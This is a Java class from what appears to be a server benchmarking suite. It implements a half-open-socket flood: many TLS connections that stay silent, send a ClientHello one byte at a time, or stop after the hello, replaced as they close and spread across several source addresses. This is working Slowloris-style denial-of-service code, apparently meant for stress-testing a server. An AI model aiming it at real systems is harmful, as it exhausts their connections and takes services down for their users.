package dev.p2c2g.benchmarks.flood;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLException;

/**
 * Connections that stay half open: a third say nothing, a third send a byte of a hello each second,
 * a third send all of it and nothing more. One that is closed is replaced.
 */
final class HalfOpenSockets implements Attack {
  private static final int ADDRESSES = 10;
  private static final long ROUND_NANOS = TimeUnit.MILLISECONDS.toNanos(250);
  private static final int ROUNDS_A_BYTE = 4;
  private static final int MOST_A_ROUND = 100;

  private final Begun begun = new Begun();
  private final Target target;
  private final byte[] hello;
  private final int count;
  private final List<Half> halves = new ArrayList<>();
  private final Thread thread;
  private final AtomicLong opened = new AtomicLong();
  private volatile boolean running = true;

  /** How one of them behaves. */
  private enum Manner {
    SILENT,
    SLOW,
    HELLO
  }

  private static final class Half {
    private final SocketChannel channel;
    private final Manner manner;
    private int said;

    Half(SocketChannel channel, Manner manner) {
      this.channel = channel;
      this.manner = manner;
    }
  }

  HalfOpenSockets(Target target, int count) throws SSLException {
    this.target = target;
    this.count = count;
    this.hello = hello(target);
    this.thread = Thread.ofPlatform().daemon().start(this::keepOpen);
  }

  /** The first flight of a handshake, the same for all: it costs nothing to send. */
  private static byte[] hello(Target target) throws SSLException {
    var engine = target.tls().createSSLEngine("x", target.address().getPort());
    engine.setUseClientMode(true);
    engine.beginHandshake();
    var bytes = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
    engine.wrap(ByteBuffer.allocate(0), bytes);
    var hello = new byte[bytes.flip().remaining()];
    bytes.get(hello);
    return hello;
  }

  private void keepOpen() {
    for (var round = 0; running; round++) {
      halves.removeIf(HalfOpenSockets::isClosed);
      for (var n = 0; n < MOST_A_ROUND && halves.size() < count; n++) {
        open();
      }
      if (round % ROUNDS_A_BYTE == 0) {
        halves.forEach(this::sayMore);
      }
      LockSupport.parkNanos(ROUND_NANOS);
    }
    halves.forEach(half -> Sockets.close(half.channel));
  }

  private void open() {
    try {
      var channel = SocketChannel.open();
      channel.bind(target.from(ADDRESSES));
      channel.connect(target.address());
      channel.configureBlocking(false);
      var half =
          new Half(
              channel, Manner.values()[(int) (opened.getAndIncrement() % Manner.values().length)]);
      halves.add(half);
      begun.now();
      if (half.manner == Manner.HELLO) {
        channel.write(ByteBuffer.wrap(hello));
      }
    } catch (IOException _) {
      // refused: the next round tries again
    }
  }

  private void sayMore(Half half) {
    if (half.manner == Manner.SLOW && half.said < hello.length) {
      try {
        half.channel.write(ByteBuffer.wrap(hello, half.said++, 1));
      } catch (IOException _) {
        Sockets.close(half.channel);
      }
    }
  }

  private static boolean isClosed(Half half) {
    var answer = ByteBuffer.allocate(4_096);
    try {
      if (half.channel.isOpen() && half.channel.read(answer) >= 0) {
        return false;
      }
    } catch (IOException _) {
      // reset
    }
    Sockets.close(half.channel);
    return true;
  }

  @Override
  public void awaitBegun() throws InterruptedException {
    begun.await();
  }

  @Override
  public String told() {
    return opened.get() + " half-open sockets";
  }

  @Override
  public void close() {
    running = false;
    try {
      thread.join();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
